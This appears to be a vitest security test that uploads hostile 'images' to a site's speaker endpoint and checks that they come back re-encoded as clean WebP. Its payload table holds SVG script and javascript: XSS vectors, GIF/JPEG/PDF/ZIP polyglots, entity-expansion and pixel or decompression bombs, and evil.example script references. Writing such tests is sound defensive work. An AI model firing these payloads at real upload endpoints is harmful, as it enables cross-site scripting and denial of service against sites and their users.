import { createHash } from 'node:crypto';
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { expect } from 'vitest';
import { attack, type Target } from '../attack.ts';

const PAYLOAD = '<script>alert(document.domain)</script>';
const data = (type: string, content: Buffer | string) =>
  `data:${type};base64,${Buffer.from(content).toString('base64')}`;
const svg = (inner: string, attributes = '') =>
  data(
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" ${attributes}><rect width="10" height="10" fill="#c33"/>${inner}</svg>`,
  );
const photograph = () => sharp({ create: { width: 40, height: 40, channels: 3, background: '#c33' } });

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), content]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}

/** A PNG that says it is so large, with a text beside its picture. */
function png(width: number, height: number, { rows = height, text = '' } = {}): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('tEXt', Buffer.from(`Comment\0${text}`)),
    chunk('IDAT', deflateSync(Buffer.alloc((width + 1) * rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF whose size in its head is a comment of JavaScript. */
const gifScript = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(200), Buffer.from('*/=1;alert(1)//')]);

/** The head of a lossless WebP of 16383 × 16383 pixels, and nothing behind it. */
function webpBomb(): Buffer {
  const body = Buffer.from([0x2f, 0xfe, 0xff, 0xff, 0x0f, 0, 0, 0, 0, 0]);
  const head = Buffer.from('RIFF\0\0\0\0WEBPVP8L\0\0\0\0', 'latin1');
  head.writeUInt32LE(12 + body.length, 4);
  head.writeUInt32LE(body.length, 16);
  return Buffer.concat([head, body]);
}

type Upload = () => string | Promise<string>;

const PICTURES: Record<string, Upload> = {
  'a drawing with a script': () => svg(PAYLOAD),
  'a drawing that acts when it is there': () => svg('', 'onload="alert(document.domain)"'),
  'a drawing with a script elsewhere': () => svg('<script href="https://evil.example/x.js"/>'),
  'a drawing with a link that acts': () =>
    svg('<a href="javascript:alert(document.domain)"><rect width="9" height="9"/></a>'),
  'a drawing with a page in it': () =>
    svg(
      `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">${PAYLOAD}</body></foreignObject>`,
    ),
  'a drawing that animates a link': () =>
    svg('<a><animate attributeName="href" values="javascript:alert(document.domain)"/><text>x</text></a>'),
  'a drawing of entities upon entities': () =>
    data(
      'image/svg+xml',
      `<!DOCTYPE s [<!ENTITY a "${'x'.repeat(50)}">${'bcdefghi'
        .split('')
        .map((name, place) => `<!ENTITY ${name} "${`&${'abcdefgh'[place]};`.repeat(20)}">`)
        .join('')}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&i;</text></svg>`,
    ),
  'a page that says it is a drawing': () => data('image/svg+xml', `<html>${PAYLOAD}</html>`),
  'a page that says it is a picture': () => data('image/png', `<!doctype html>${PAYLOAD}`),
  'a page under its own name': () => data('text/html', PAYLOAD),
  'a script under its own name': () => data('text/javascript', 'alert(document.domain)'),
  'a GIF that is a script': () => data('image/gif', gifScript),
  'a picture with a page in its comment': () => data('image/png', png(16, 16, { text: PAYLOAD })),
  'a picture with a page behind its end': () =>
    data('image/png', Buffer.concat([png(16, 16), Buffer.from(PAYLOAD)])),
  'a photograph with a page in its metadata': async () =>
    data(
      'image/jpeg',
      await photograph()
        .withExif({ IFD0: { ImageDescription: PAYLOAD } })
        .jpeg()
        .toBuffer(),
    ),
  'a photograph with a document behind its end': async () =>
    data(
      'image/jpeg',
      Buffer.concat([
        await photograph().jpeg().toBuffer(),
        Buffer.from('%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF'),
      ]),
    ),
  'a document that begins like a photograph': () =>
    data(
      'application/pdf',
      Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from(`%PDF-1.7\n${PAYLOAD}`)]),
    ),
  'an archive behind a picture': () =>
    data('image/png', Buffer.concat([png(16, 16), Buffer.from('PK\x03\x04'), Buffer.from(PAYLOAD)])),
  'a picture that says it is a page': async () => data('text/html', await photograph().png().toBuffer()),
  'a picture of 30,000 × 30,000 points in a few bytes': () =>
    data('image/png', png(30_000, 30_000, { rows: 20 })),
  'a picture of 900 million points, all there': () => data('image/png', png(30_000, 30_000, { rows: 3000 })),
  'a picture as wide as a number can be': () => data('image/png', png(0x7fffffff, 1, { rows: 0 })),
  'a picture without a height': () => data('image/png', png(10, 0)),
  'a WebP of 16,383 × 16,383 points': () => data('image/webp', webpBomb()),
  'a drawing a million points wide': () =>
    svg('').replace(/.*/s, () =>
      data(
        'image/svg+xml',
        '<svg xmlns="http://www.w3.org/2000/svg" width="1000000" height="1000000"><rect width="9" height="9"/></svg>',
      ),
    ),
  'a drawing packed with gzip': () =>
    data(
      'image/svg+xml',
      gzipSync(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${' '.repeat(5_000_000)}</svg>`),
    ),
  'an address that acts': () => 'javascript:alert(document.domain)',
  'an address elsewhere': () => 'https://evil.example/spy.gif',
  'markup instead of a picture': () => `"><img src=x onerror=alert(document.domain)>`,
};

async function store({ site, token }: Target, image: string) {
  return site.request('/rest/v1/speakers?select=id', {
    method: 'POST',
    headers: {
      apikey: site.publishableKey,
      Authorization: `Bearer ${token}`,
      'Content-Type': 'application/json',
      Prefer: 'return=representation',
    },
    body: JSON.stringify({ name: 'Ana Envio', title: 'Médica', bio: 'x', image }),
  });
}

export const pictures = attack<Upload>('uploads.ts', {
  isLong: true,
  name: 'Pictures that are something else: scripts in drawings, polyglots, wrong types, bombs of points',
  answer: 'Drawn anew as WebP without what it carried, or 404; pages hold no address of it but ours',
  inputs: PICTURES,
  async check(upload, target) {
    const image = await upload();
    const { site } = target;
    const stored = await store(target, image);
    if (stored.status !== 201) return void expect(stored.status, await stored.text()).toBeLessThan(500);
    const [{ id = '' } = {}] = (await stored.json()) as { id: string }[];
    try {
      const started = process.cpuUsage();
      const hash = createHash('sha256').update(image).digest('hex').slice(0, 32);
      const shown = await site.request(`/media/${hash}/96.webp`);
      const { user, system } = process.cpuUsage(started);
      expect((user + system) / 1000, 'milliseconds of work').toBeLessThan(4000);
      expect([200, 404]).toContain(shown.status);
      expect(shown.headers.get('X-Content-Type-Options')).toBe('nosniff');
      expect(shown.headers.get('Content-Type')).toMatch(/^(image\/webp|text\/plain)/);
      const bytes = Buffer.from(await shown.arrayBuffer());
      if (shown.status === 200) expect((await sharp(bytes).metadata()).format).toBe('webp');
      for (const carried of ['alert', '%PDF', '<script', 'PK\x03\x04'])
        expect(bytes.includes(carried)).toBe(false);
    } finally {
      await site.database.deleteFrom('speakers').where('id', '=', id).execute();
    }
  },
});
